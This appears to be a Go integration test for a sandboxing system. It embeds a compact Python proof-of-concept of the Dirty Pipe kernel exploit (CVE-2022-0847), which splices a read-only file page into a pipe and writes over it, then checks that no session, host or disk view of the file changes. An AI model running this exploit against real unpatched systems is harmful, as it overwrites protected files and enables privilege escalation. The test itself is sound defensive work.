package integration

import (
	"fmt"
	"os"
	"testing"

	"golang.org/x/sys/unix"
)

// pipeAttack has a page of a file lie in a pipe, and writes to the pipe: a Linux that
// takes the page for one of the pipe's own writes into it, and so into everybody's view
// of the file (CVE-2022-0847). The pipe was full and empty once before, which leaves the
// mark behind that this Linux goes by. The verdict is what the pipe held.
var pipeAttack = fmt.Sprintf(`
def go():
    r, w = os.pipe()
    for n in range(16): os.write(w, bytes(4096))
    for n in range(16): os.read(r, 4096)
    file = os.open(OUT + "/file", os.O_RDONLY)
    if raw(%d, file, ctypes.byref(ctypes.c_long(0)), w, 0, 1, 0) != 1: raise OSError(5, "short")
    os.write(w, b"EVIL")
    return os.read(r, 100).decode()
verdict = go()`, unix.SYS_SPLICE)

// TestAPipeLeavesTheFileItHolds: the bytes stay in the pipe, for whoever reads the file:
// the session, another one, the host, and the disk. The control is a change of the page
// itself, which each of them sees.
func TestAPipeLeavesTheFileItHolds(t *testing.T) {
	for _, m := range everyMode {
		t.Run(m, func(t *testing.T) {
			dir, state := outside(t)
			before := state()
			s, other := open(t, inMode(t, m)), open(t, inMode(t, m))
			s.ok(actorsOn(dir, 1))
			other.ok(attackOn(dir, 1))
			const look = `open(OUT + "/file").read()`
			for _, actor := range attackActors {
				if got := s.ok(by(actor.by, pipeAttack)).value(); got != `'cEVIL'` {
					t.Errorf("%s: the pipe held %s", actor.name, got)
				}
				s.shows(look, `'canary\n'`)
				other.shows(look, `'canary\n'`)
				forget(t, dir+"/file")
				other.shows(look, `'canary\n'`)
				if now := state(); now != before {
					t.Errorf("%s: what lies outside changed from\n%sto\n%s", actor.name, before, now)
				}
			}
			file, err := os.OpenFile(dir+"/file", os.O_RDWR, 0)
			if err != nil {
				t.Fatal(err)
			}
			defer file.Close()
			page, err := unix.Mmap(int(file.Fd()), 0, 7, unix.PROT_READ|unix.PROT_WRITE, unix.MAP_SHARED)
			if err != nil {
				t.Fatal(err)
			}
			copy(page[1:], "EVIL")
			s.shows(look, `'cEVILy\n'`)
			other.shows(look, `'cEVILy\n'`)
			if err := unix.Munmap(page); err != nil {
				t.Fatal(err)
			}
		})
	}
}

// forget has Linux read a file from the disk the next time.
func forget(t *testing.T, path string) {
	t.Helper()
	file, err := os.Open(path)
	if err != nil {
		t.Fatal(err)
	}
	defer file.Close()
	if err := file.Sync(); err != nil {
		t.Fatal(err)
	}
	if err := unix.Fadvise(int(file.Fd()), 0, 0, unix.FADV_DONTNEED); err != nil {
		t.Fatal(err)
	}
}
